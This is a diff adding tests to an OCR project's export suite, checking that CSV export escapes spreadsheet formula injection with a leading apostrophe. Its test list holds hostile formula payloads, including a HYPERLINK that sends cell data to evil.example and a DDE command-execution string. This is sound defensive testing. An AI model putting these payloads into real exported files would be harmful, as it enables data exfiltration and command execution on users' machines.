@@ -6,6 +6,7 @@ import json
 import re
 from html.parser import HTMLParser
 
+import pytest
 from lxml import etree
 
 from tests.exports.conftest import export_now, read
@@ -120,3 +121,33 @@ def test_control_characters_in_a_correction_do_not_break_xml(fixed_book):
     alto = etree.fromstring(read(export_now(fixed_book, "alto")))
     contents = [e.get("CONTENT") for e in alto.iter() if e.get("CONTENT")]
     assert contents[contents.index("Left") : contents.index("Left") + 2] == ["Left", "one"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_a_spreadsheet_would_evaluate_start_with_an_apostrophe(fixed_book, formula):
+    from ocr.models import TextLine
+
+    TextLine.objects.filter(text="Left one").update(text=formula, engine_text=formula)
+    rows = list(csv.DictReader(io.StringIO(read(export_now(fixed_book, "csv")).decode("utf-8"))))
+    row = next(r for r in rows if r["text"].endswith(formula))
+    assert (row["text"], row["engine_text"]) == ("'" + formula, "'" + formula)
+    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in r)
+
+
+def test_csv_leaves_ordinary_text_and_inner_formula_characters_alone(fixed_book):
+    from ocr.models import TextLine
+
+    TextLine.objects.filter(text="Left one").update(text="a = b + c - d @ e")
+    rows = list(csv.DictReader(io.StringIO(read(export_now(fixed_book, "csv")).decode("utf-8"))))
+    assert "a = b + c - d @ e" in [r["text"] for r in rows]
